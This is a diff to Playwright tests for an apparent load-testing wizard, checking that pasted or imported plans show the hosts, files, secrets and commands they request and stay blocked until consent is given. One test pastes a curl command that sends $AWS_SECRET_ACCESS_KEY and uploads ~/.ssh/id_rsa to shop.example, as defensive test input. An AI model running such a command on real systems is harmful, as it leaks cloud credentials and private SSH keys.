@@ -25,8 +25,7 @@ test('a plan of somebody else’s is tried and started only once what it asks fo
     safety: { consentedHosts: ['127.0.0.1'] },
   };
   await wizard.open();
-  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
-  await page.getByRole('textbox', { name: 'Command, address or plan' }).fill(stringify(plan));
+  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
   await page.getByRole('button', { name: 'Use it' }).click();
   await expect(wizard.heading('How much load?')).toBeVisible();
 
@@ -44,8 +43,7 @@ test('a plan of somebody else’s is tried and started only once what it asks fo
 
   // The same plan again: what was agreed to is known.
   await wizard.open();
-  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
-  await page.getByRole('textbox', { name: 'Command, address or plan' }).fill(stringify(plan));
+  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
   await page.getByRole('button', { name: 'Use it' }).click();
   await expect(wizard.heading('How much load?')).toBeVisible();
   await wizard.next('Ready to start?');
@@ -55,9 +53,8 @@ test('a plan of somebody else’s is tried and started only once what it asks fo
 test('an import shows what its plan asks for above everything else, and asks for values that it does not say', async ({ app }) => {
   const { page } = app;
   await new WizardPage(page).open();
-  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
   await page
-    .getByRole('textbox', { name: 'Command, address or plan' })
+    .getByRole('textbox', { name: 'Enter a URL or paste a command' })
     .fill('curl -H "X-Key: $AWS_SECRET_ACCESS_KEY" --data @/home/me/.ssh/id_rsa http://shop.example/');
   await expect(page.getByText('/home/me/.ssh/id_rsa', { exact: true })).toBeVisible();
   await expect(page.getByText('shop.example', { exact: true })).toBeVisible();
@@ -87,11 +84,10 @@ test('a pasted plan cannot start before everything that it asks for was on the s
     load: { model: 'connections', stages: [{ connections: 1, requests: 5 }] },
   });
   await wizard.open();
-  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
-  await page.getByRole('textbox', { name: 'Command, address or plan' }).fill(stringify(plan));
+  await page.getByRole('textbox', { name: 'Enter a URL or paste a command' }).fill(stringify(plan));
   await page.getByRole('button', { name: 'Use it' }).click();
   await expect(wizard.heading('How much load?')).toBeVisible();
-  await wizard.next('From which machines?');
+  await wizard.next('Ready to start?');
   const card = page.getByRole('region', { name: 'Permissions' });
   const asks = asksOf({ plan }).filter(needsAgreement);
   expect(new Set(asks.map(({ kind }) => kind))).toEqual(new Set(['host', 'socket', 'ssh', 'file', 'env', 'query', 'command']));
@@ -99,6 +95,6 @@ test('a pasted plan cannot start before everything that it asks for was on the s
     await expect(card.getByText(KIND_WORDS[kind], { exact: true })).toBeVisible();
     for (const { name } of all) await expect(card.getByText(name, { exact: true }).first()).toBeVisible();
   }
-  await expect(wizard.nextButton).toBeDisabled();
+  await expect(wizard.startButton).toBeDisabled();
   await look(page, 'consent-everything');
 });
